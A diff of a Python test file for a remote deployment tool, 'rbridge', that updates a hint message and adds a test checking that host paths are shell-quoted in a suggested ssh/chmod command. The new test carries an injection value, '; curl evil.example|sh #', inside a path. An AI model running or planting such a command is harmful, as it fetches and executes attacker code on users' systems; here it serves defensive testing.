@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from dataclasses import replace
 
 import pytest
@@ -96,7 +97,7 @@ def test_a_path_without_it_is_said_with_the_command_and_what_to_do_until_then() 
     [
         (Put(PATH, True, f"{PATH}.before-1"), "is kept: ~/.local/bin/rbridge.before-1"),
         (Put(PATH, False, "", rmate=False), "~/.local/bin/rmate is another program: it is left as it is"),
-        (Put(PATH, False, "", notes=("group",)), "chmod g-w ~/.local/bin"),
+        (Put(PATH, False, "", notes=("group",)), "take their right to write in ~/.local/bin"),
         (Put(PATH, False, "", notes=("link",)), "is a link: the client lies where it leads to"),
         (Put(PATH, False, "", notes=("record",)), "--remove will not undo it"),
         (Put(PATH, False, "", runs=False), "alias rbridge='/usr/bin/python3 ~/.local/bin/rbridge'"),
@@ -176,3 +177,10 @@ def test_each_family_of_shells_has_its_marked_line() -> None:
     lines = {deploy.marked(shell) for shell in ("bash", "fish", "tcsh")}
     assert len(lines) == 3
     assert all(line.endswith(" # rbridge") for line in lines)
+
+
+def test_a_path_of_the_host_is_quoted_in_a_command_to_paste() -> None:
+    path = "/home/u/.rbridge; curl evil.example|sh #"
+    words = shlex.split(deploy.trouble("gpu1", f"mode|drwxrwxrwx||{path}").hint.partition("then: ")[2])
+    assert words[:2] == ["ssh", "gpu1"]
+    assert shlex.split(words[2]) == ["chmod", "go-w", path]
